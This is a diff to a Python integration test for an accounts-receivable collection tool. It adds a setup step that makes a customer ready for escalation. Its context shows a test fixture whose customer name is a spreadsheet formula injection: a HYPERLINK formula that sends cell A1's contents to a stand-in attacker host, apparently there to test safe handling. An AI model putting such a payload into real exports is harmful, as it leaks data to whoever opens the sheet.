@@ -15,7 +15,7 @@ import pytest
 
 from arcollect.book import cases
 from arcollect.run import collect
-from tests.integration.workbooks import TUESDAY, customer, invoice, make_book
+from tests.integration.workbooks import TUESDAY, customer, invoice, make_book, ready_to_escalate
 
 HOSTILE = {
     "name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your invoice")',
@@ -45,6 +45,7 @@ def run_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
             invoice("INV-4", "C2", due="2026-10-20"),
         ],
     )
+    ready_to_escalate(path, HOSTILE["id"], [HOSTILE["number"]])
     report = collect(path, now=TUESDAY, send=True)
     assert report.escalated, "the first customer is escalated, so a case file is written"
     return folder
